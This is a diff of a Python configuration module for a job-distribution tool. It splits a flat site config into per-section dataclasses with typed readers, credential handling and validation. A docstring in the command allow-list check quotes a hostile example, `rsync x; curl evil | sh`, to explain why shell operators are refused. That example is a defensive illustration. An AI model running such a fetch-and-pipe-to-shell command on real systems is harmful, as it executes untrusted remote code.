@@ -69,36 +69,21 @@ import re
 import secrets
 import stat
 import tomllib
-from collections.abc import Iterator, Mapping
-from dataclasses import dataclass, field
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass, field, fields, replace
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
+from . import core
+from .clock import parse_duration
 from .errors import JobdistError
 from .names import nearest_name
 from .status import MIN_INTERVAL
 
 SITE_NAME = re.compile(r"^[a-z0-9][a-z0-9_-]{0,63}$")
-CREATOR_TIMEOUT = 120.0  # seconds of a creator's silence before its successor takes over
 SHELL_OPERATORS = re.compile(r"[;&|$`<>()\n\r]")
-
-# Every key a site config may hold, by section ("": the top level, besides the
-# sections): the one list of them. `_site_from` reads through `Section`, which
-# fails on a key missing here, so what is read and what is accepted cannot drift.
-SETTINGS: dict[str, tuple[str, ...]] = {
-    "": ("name", "workers", "peers"),
-    "couch": ("url", "database", "credentials", "admin_credentials", "user", "password"),
-    "replication": ("filtered", "relay", "peer_urls"),
-    "commands": ("allow", "allow_shell"),
-    "keepalive": ("period", "stale_after"),
-    "daemon": ("booking_timeout", "shutdown_grace", "lease", "heartbeat", "clock_skew_margin",
-               "journal"),
-    "succession": ("successors", "creator_timeout"),
-    "retention": ("older_than", "interval", "export"),
-    "admin": ("port", "host", "token"),
-}
-
 
 class ConfigError(JobdistError, ValueError):
     """A site configuration that cannot be used; the message says why and where."""
@@ -148,62 +133,44 @@ class Section(Mapping[str, Any]):
                                "SETTINGS does not list")
 
 
+# A field the loader fills in from elsewhere (a credentials file, the environment):
+# no key of the file sets it.
+DERIVED = {"derived": True}
+
+
 @dataclass(frozen=True)
-class SiteConfig:
-    name: str
-    couch_url: str
+class CouchSettings:
+    """[couch]: the site's CouchDB and how to log in to it."""
+
+    url: str = ""
     database: str = "jobs"
+    credentials: Path | None = None  # the site's user (daemon, replications)
+    admin_credentials: Path | None = None  # only `jobdist setup` uses it
     user: str | None = None
     password: str | None = field(default=None, repr=False)
-    credentials: Path | None = None
-    admin_credentials: Path | None = None
-    admin_user: str | None = None
-    admin_password: str | None = field(default=None, repr=False)
-    allowed_commands: tuple[re.Pattern[str], ...] | None = None
-    allow_shell: bool = False
-    workers: int = 2
-    peers: tuple[str, ...] = ()
-    filtered: bool = False
-    relay: bool = False
-    peer_urls: Mapping[str, str] = field(default_factory=dict, hash=False)
-    keepalive_period: float = 5.0
-    keepalive_stale_after: float = 30.0
-    booking_timeout: float = 60.0
-    shutdown_grace: float = 10.0
-    lease: float = 60.0
-    heartbeat: float = 15.0
-    clock_skew_margin: float = 10.0
-    journal: Path | None = None
-    # Per creator, the sites that take its live jobs over, in order, once it has
-    # been silent for creator_timeout (docs/protocol.md, "Automatic succession").
-    successors: Mapping[str, tuple[str, ...]] = field(default_factory=dict, hash=False)
-    creator_timeout: float = CREATOR_TIMEOUT
-    retention_older_than: str | None = None
-    retention_interval: float = 3600.0
-    retention_export: Path | None = None
-    admin_host: str = "127.0.0.1"
-    admin_port: int | None = None
-    admin_token: str | None = field(default=None, repr=False)
-    path: Path | None = None
+    admin_user: str | None = field(default=None, metadata=DERIVED)
+    admin_password: str | None = field(default=None, repr=False, metadata=DERIVED)
 
     @property
     def port(self) -> int:
-        return urlsplit(self.couch_url).port or 5984
+        return urlsplit(self.url).port or 5984
 
-    def require_credentials(self) -> None:
-        """ConfigError when the config names a credentials file that is not there (and
-        the environment gives no user): carrying on would run, or set replications
-        up, without logging in."""
-        if self.credentials is not None and self.user is None and not self.credentials.exists():
-            raise ConfigError(f"{self.path}: the credentials file {self.credentials} does not "
-                              "exist: run `jobdist secrets` (or `jobdist cluster up`, which "
-                              "writes it)")
 
-    def journal_dir(self) -> Path:
-        """Where the daemon keeps the results its CouchDB did not take yet: a directory
-        of its own, so sites sharing a host (and a configured path) never share one."""
-        return self.journal / self.name if self.journal else \
-            Path(".jobdist") / self.name / "journal"
+@dataclass(frozen=True)
+class ReplicationSettings:
+    """[replication]: what a site pushes to its peers, and where it reaches them."""
+
+    filtered: bool = False
+    relay: bool = False
+    peer_urls: Mapping[str, str] = field(default_factory=dict, hash=False)
+
+
+@dataclass(frozen=True)
+class CommandSettings:
+    """[commands]: which commands the site runs."""
+
+    allow: tuple[re.Pattern[str], ...] | None = None
+    allow_shell: bool = False
 
     def allows(self, command: str) -> bool:
         """May this site run `command` (its `[commands] allow` list, if any)?
@@ -212,11 +179,117 @@ class SiteConfig:
         redirects or substitutes (`rsync x; curl evil | sh` matches `rsync .*`) is
         refused unless `allow_shell = true` says the patterns account for that.
         """
-        if self.allowed_commands is None:
+        if self.allow is None:
             return True
         if not self.allow_shell and SHELL_OPERATORS.search(command):
             return False
-        return any(pattern.fullmatch(command) for pattern in self.allowed_commands)
+        return any(pattern.fullmatch(command) for pattern in self.allow)
+
+
+@dataclass(frozen=True)
+class KeepAliveSettings:
+    """[keepalive]: the re-saver of open jobs nobody has touched for a while."""
+
+    period: float = 5.0
+    stale_after: float = 30.0
+
+
+@dataclass(frozen=True)
+class DaemonSettings:
+    """[daemon]: claims, leases and stopping."""
+
+    booking_timeout: float = core.BOOKING_TIMEOUT  # give up a claim the creator has not decided
+    shutdown_grace: float = 10.0  # running steps get this long on SIGTERM
+    lease: float = core.LEASE  # a winner's promise lasts this long unless renewed
+    heartbeat: float = core.HEARTBEAT  # how often a site renews the leases of its steps
+    clock_skew_margin: float = core.SKEW_MARGIN  # the creator waits this much past a lease
+    journal: Path | None = None  # results kept while CouchDB does not answer
+
+
+@dataclass(frozen=True)
+class RetentionSettings:
+    """[retention]: the daemon removes its own old finished jobs when `older_than` is set."""
+
+    older_than: timedelta | None = None
+    interval: float = 3600.0
+    export: Path | None = None
+
+
+@dataclass(frozen=True)
+class SuccessionSettings:
+    """[succession]: per creator, the sites that take its live jobs over, in order, once
+    it has been silent for creator_timeout (docs/protocol.md, "Automatic succession")."""
+
+    successors: Mapping[str, tuple[str, ...]] = field(default_factory=dict, hash=False)
+    creator_timeout: float = core.CREATOR_TIMEOUT
+
+
+@dataclass(frozen=True)
+class AdminSettings:
+    """[admin]: the daemon's HTTP endpoint (none without a port)."""
+
+    port: int | None = None
+    host: str = "127.0.0.1"
+    token: str | None = field(default=None, repr=False)
+
+
+# The config's tables, and the dataclass each is read into: the one list of sections.
+SECTIONS: dict[str, type] = {
+    "couch": CouchSettings,
+    "replication": ReplicationSettings,
+    "commands": CommandSettings,
+    "keepalive": KeepAliveSettings,
+    "daemon": DaemonSettings,
+    "retention": RetentionSettings,
+    "succession": SuccessionSettings,
+    "admin": AdminSettings,
+}
+
+
+def _keys(cls: type) -> tuple[str, ...]:
+    return tuple(f.name for f in fields(cls) if not f.metadata.get("derived"))
+
+
+# Every key a site config may hold, by section ("": the top level, besides the
+# sections), derived from the dataclasses: what is read and what is accepted
+# cannot drift.
+SETTINGS: dict[str, tuple[str, ...]] = {
+    "": ("name", "workers", "peers"),
+    **{name: _keys(cls) for name, cls in SECTIONS.items()},
+}
+
+
+@dataclass(frozen=True)
+class SiteConfig:
+    name: str
+    couch: CouchSettings
+    workers: int = 2
+    peers: tuple[str, ...] = ()
+    replication: ReplicationSettings = field(default_factory=ReplicationSettings)
+    commands: CommandSettings = field(default_factory=CommandSettings)
+    keepalive: KeepAliveSettings = field(default_factory=KeepAliveSettings)
+    daemon: DaemonSettings = field(default_factory=DaemonSettings)
+    retention: RetentionSettings = field(default_factory=RetentionSettings)
+    succession: SuccessionSettings = field(default_factory=SuccessionSettings)
+    admin: AdminSettings = field(default_factory=AdminSettings)
+    path: Path | None = None
+
+    def require_credentials(self) -> None:
+        """ConfigError when the config names a credentials file that is not there (and
+        the environment gives no user): carrying on would run, or set replications
+        up, without logging in."""
+        couch = self.couch
+        if couch.credentials is not None and couch.user is None \
+                and not couch.credentials.exists():
+            raise ConfigError(f"{self.path}: the credentials file {couch.credentials} does "
+                              "not exist: run `jobdist secrets` (or `jobdist cluster up`, "
+                              "which writes it)")
+
+    def journal_dir(self) -> Path:
+        """Where the daemon keeps the results its CouchDB did not take yet: a directory
+        of its own, so sites sharing a host (and a configured path) never share one."""
+        journal = self.daemon.journal
+        return journal / self.name if journal else Path(".jobdist") / self.name / "journal"
 
 
 def load_site(path: Path | str) -> SiteConfig:
@@ -251,7 +324,8 @@ def load_sites(directory: Path | str) -> dict[str, SiteConfig]:
         unknown = sorted(set(site.peers) - set(sites))
         if unknown:
             raise ConfigError(f"{site.path}: unknown peers {', '.join(unknown)}")
-        named = {name for creator, line in site.successors.items() for name in (creator, *line)}
+        named = {name for creator, line in site.succession.successors.items()
+                 for name in (creator, *line)}
         unknown = sorted(named - set(sites))
         if unknown:
             raise ConfigError(f"{site.path}: succession.successors names unknown sites "
@@ -296,79 +370,100 @@ def _site_from(raw: Section, path: Path) -> SiteConfig:
     name = raw["name"]
     if not isinstance(name, str) or not SITE_NAME.match(name):
         raise ValueError(f"name {name!r} must be 1-64 of a-z, 0-9, _ and -")
-    couch = _section(raw, "couch")
-    keepalive = _section(raw, "keepalive")
-    daemon = _section(raw, "daemon")
-    admin = _section(raw, "admin")
-    replication = _section(raw, "replication")
-    retention = _section(raw, "retention")
-    commands = _section(raw, "commands")
-    succession = _section(raw, "succession")
-    if "older_than" in retention:
-        from .retention import RetentionError, parse_duration
-
-        try:
-            parse_duration(str(retention["older_than"]))
-        except RetentionError as error:
-            raise ValueError(f"retention.older_than: {error}") from None
     workers = int(raw.get("workers", 2))
     if workers < 0:
         raise ValueError("workers must be >= 0")
-    _check_lease(daemon)
-    credentials = _path_setting(couch, "credentials", path)
-    admin_credentials = _path_setting(couch, "admin_credentials", path)
-    user, password = _login(couch, credentials, "JOBDIST_COUCH", name)
-    admin_user, admin_password = _login({}, admin_credentials, "JOBDIST_COUCH_ADMIN", name)
-    return SiteConfig(
-        name=name,
-        couch_url=str(couch["url"]),
-        database=str(couch.get("database", "jobs")),
-        user=user,
-        password=password,
-        credentials=credentials,
-        admin_credentials=admin_credentials,
-        admin_user=admin_user,
-        admin_password=admin_password,
-        allowed_commands=_allow_list(commands),
-        allow_shell=bool(commands.get("allow_shell", False)),
-        workers=workers,
-        peers=tuple(raw.get("peers", ())),
-        filtered=bool(replication.get("filtered", False)),
-        relay=bool(replication.get("relay", False)),
-        peer_urls={str(k): str(v) for k, v in replication.get("peer_urls", {}).items()},
-        keepalive_period=float(keepalive.get("period", 5.0)),
-        keepalive_stale_after=float(keepalive.get("stale_after", 30.0)),
-        booking_timeout=float(daemon.get("booking_timeout", 60.0)),
-        shutdown_grace=float(daemon.get("shutdown_grace", 10.0)),
-        lease=float(daemon.get("lease", 60.0)),
-        heartbeat=float(daemon.get("heartbeat", 15.0)),
-        clock_skew_margin=float(daemon.get("clock_skew_margin", 10.0)),
-        journal=_path_setting(daemon, "journal", path),
-        successors=_successors(succession),
-        creator_timeout=_creator_timeout(succession),
-        retention_older_than=(str(retention["older_than"]) if "older_than" in retention
-                              else None),
-        retention_interval=float(retention.get("interval", 3600.0)),
-        retention_export=Path(retention["export"]) if "export" in retention else None,
-        admin_host=str(admin.get("host", "127.0.0.1")),
-        admin_port=int(admin["port"]) if "port" in admin else None,
-        admin_token=admin.get("token") or os.environ.get("JOBDIST_ADMIN_TOKEN"),
-        path=path,
-    )
+    tables = {section: _section(raw, section) for section in SECTIONS}
+    settings = {section: _read_section(section, table, path)
+                for section, table in tables.items()}
+    couch = settings["couch"]
+    if not couch.url:
+        raise KeyError("couch.url")
+    user, password = _login(couch.user, couch.password, couch.credentials, "JOBDIST_COUCH",
+                            name)
+    admin_user, admin_password = _login(None, None, couch.admin_credentials,
+                                        "JOBDIST_COUCH_ADMIN", name)
+    settings["couch"] = replace(couch, user=user, password=password, admin_user=admin_user,
+                                admin_password=admin_password)
+    admin = settings["admin"]
+    if admin.token is None and os.environ.get("JOBDIST_ADMIN_TOKEN"):
+        settings["admin"] = replace(admin, token=os.environ["JOBDIST_ADMIN_TOKEN"])
+    _check_lease(settings["daemon"])
+    _check_creator_timeout(settings["succession"])
+    return SiteConfig(name=name, workers=workers, peers=tuple(raw.get("peers", ())),
+                      path=path, **settings)
 
 
-def _path_setting(section: Mapping[str, Any], key: str, config_path: Path) -> Path | None:
-    if key not in section:
-        return None
-    value = Path(str(section[key])).expanduser()
-    return value if value.is_absolute() else config_path.parent / value
+def _read_section(section: str, table: Section, path: Path) -> Any:
+    """A section's dataclass from its table: each key read by its field's type, each
+    missing one left to the dataclass's default (the one place defaults are written)."""
+    cls = SECTIONS[section]
+    values = {}
+    for item in fields(cls):
+        if item.metadata.get("derived") or item.name not in table:
+            continue
+        read = SPECIAL_READERS.get((section, item.name)) or READERS[str(item.type)]
+        try:
+            values[item.name] = read(table[item.name], path)
+        except (TypeError, ValueError) as error:
+            raise ValueError(f"{dotted(section, item.name)}: {error}") from None
+    return cls(**values)
 
 
-def _login(couch: Mapping[str, Any], credentials: Path | None, env_prefix: str,
-           site: str) -> tuple[str | None, str | None]:
+def _path(value: Any, config_path: Path) -> Path:
+    """A path setting; a relative one is read from the config file's directory."""
+    path = Path(str(value)).expanduser()
+    return path if path.is_absolute() else config_path.parent / path
+
+
+def _flag(value: Any, _: Path) -> bool:
+    if not isinstance(value, bool):
+        raise ValueError(f"must be true or false, not {value!r}")
+    return value
+
+
+def _number(value: Any, _: Path) -> float:
+    if isinstance(value, bool) or not isinstance(value, int | float):
+        raise ValueError(f"must be a number, not {value!r}")
+    return float(value)
+
+
+def _integer(value: Any, _: Path) -> int:
+    if isinstance(value, bool) or not isinstance(value, int):
+        raise ValueError(f"must be an integer, not {value!r}")
+    return value
+
+
+def _text(value: Any, _: Path) -> str:
+    return str(value)
+
+
+def _duration(value: Any, _: Path) -> timedelta:
+    return parse_duration(str(value))
+
+
+def _peer_urls(value: Any, _: Path) -> dict[str, str]:
+    if not isinstance(value, dict):
+        raise ValueError(f"must be a table of site = url, not {value!r}")
+    return {str(peer): str(url) for peer, url in value.items()}
+
+
+# How a setting's text becomes its typed value, by the field's declared type.
+READERS: dict[str, Callable[[Any, Path], Any]] = {
+    "str": _text, "str | None": _text, "float": _number, "int | None": _integer,
+    "bool": _flag, "Path | None": _path, "timedelta | None": _duration,
+}
+SPECIAL_READERS: dict[tuple[str, str], Callable[[Any, Path], Any]] = {
+    ("commands", "allow"): lambda value, _: _allow_list(value),
+    ("replication", "peer_urls"): _peer_urls,
+    ("succession", "successors"): lambda value, _: _successors(value),
+}
+
+
+def _login(user: str | None, password: str | None, credentials: Path | None,
+           env_prefix: str, site: str) -> tuple[str | None, str | None]:
     """(user, password): the environment (PREFIX_USER_SITE before PREFIX_USER), else the
     credentials file, else inline keys."""
-    user, password = couch.get("user"), couch.get("password")
     if credentials is not None and credentials.exists():
         user, password = read_credentials(credentials)
     return (_env(f"{env_prefix}_USER", site) or user,
@@ -407,52 +502,45 @@ def _toml_string(text: str) -> str:
     return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
 
 
-def _allow_list(commands: Mapping[str, Any]) -> tuple[re.Pattern[str], ...] | None:
-    if "allow" not in commands:
-        return None
-    patterns = commands["allow"]
+def _allow_list(patterns: Any) -> tuple[re.Pattern[str], ...]:
     if not isinstance(patterns, list) or not all(isinstance(p, str) for p in patterns):
-        raise ValueError("commands.allow must be a list of regular expressions")
+        raise ValueError("must be a list of regular expressions")
     compiled = []
     for pattern in patterns:
         try:
             compiled.append(re.compile(pattern))
         except re.error as error:
-            raise ValueError(f"commands.allow: bad pattern {pattern!r}: {error}") from None
+            raise ValueError(f"bad pattern {pattern!r}: {error}") from None
     return tuple(compiled)
 
 
-def _successors(succession: Mapping[str, Any]) -> dict[str, tuple[str, ...]]:
+def _successors(table: Any) -> dict[str, tuple[str, ...]]:
     """`{creator = [site, ...]}`: site names, none twice in a line, never the creator."""
-    table = succession.get("successors", {})
     if not isinstance(table, dict):
-        raise ValueError("succession.successors must be a table of creator = [sites]")
+        raise ValueError(f"must be a table of creator = [sites], not {table!r}")
     lines = {}
     for creator, line in table.items():
-        where = f"succession.successors.{creator}"
         if not SITE_NAME.match(creator):
-            raise ValueError(f"{where}: {creator!r} is not a site name")
+            raise ValueError(f"{creator!r} is not a site name")
         if not isinstance(line, list) or not all(isinstance(name, str) and SITE_NAME.match(name)
                                                  for name in line):
-            raise ValueError(f"{where} must be a list of site names, not {line!r}")
+            raise ValueError(f"{creator} must be a list of site names, not {line!r}")
         if creator in line or len(set(line)) != len(line):
-            raise ValueError(f"{where}: a site appears twice in the line {[creator, *line]}")
+            raise ValueError(f"a site appears twice in the line {[creator, *line]}")
         lines[creator] = tuple(line)
     return lines
 
 
-def _creator_timeout(succession: Mapping[str, Any]) -> float:
-    timeout = float(succession.get("creator_timeout", CREATOR_TIMEOUT))
+def _check_creator_timeout(succession: SuccessionSettings) -> None:
     # A live site renews its status at most once a MIN_INTERVAL: several must fit in.
     shortest = 4 * MIN_INTERVAL
-    if not timeout >= shortest:
-        raise ValueError(f"succession.creator_timeout ({timeout}) must be at least {shortest:g} "
-                         "s: four renewals of a site's status")
-    return timeout
+    if not succession.creator_timeout >= shortest:
+        raise ValueError(f"succession.creator_timeout ({succession.creator_timeout}) must be "
+                         f"at least {shortest:g} s: four renewals of a site's status")
 
 
-def _check_lease(daemon: Mapping[str, Any]) -> None:
-    lease, heartbeat = float(daemon.get("lease", 60.0)), float(daemon.get("heartbeat", 15.0))
+def _check_lease(daemon: DaemonSettings) -> None:
+    lease, heartbeat = daemon.lease, daemon.heartbeat
     if not 0 < heartbeat <= lease / 2:
         raise ValueError(f"daemon.heartbeat ({heartbeat}) must be above 0 and at most half "
                          f"of daemon.lease ({lease}), so one lost heartbeat is not fatal")
@@ -469,7 +557,8 @@ def ensure_credentials(sites: dict[str, SiteConfig], sites_dir: Path) -> dict[st
     (a user per site, one admin), then read the configs again to pick them up."""
     written = False
     for site in sites.values():
-        wanted = ((site.credentials, f"jobdist_{site.name}"), (site.admin_credentials, "admin"))
+        wanted = ((site.couch.credentials, f"jobdist_{site.name}"),
+                  (site.couch.admin_credentials, "admin"))
         for path, user in wanted:
             if path is not None and not path.exists():
                 write_credentials(path, user, secrets.token_urlsafe(24))
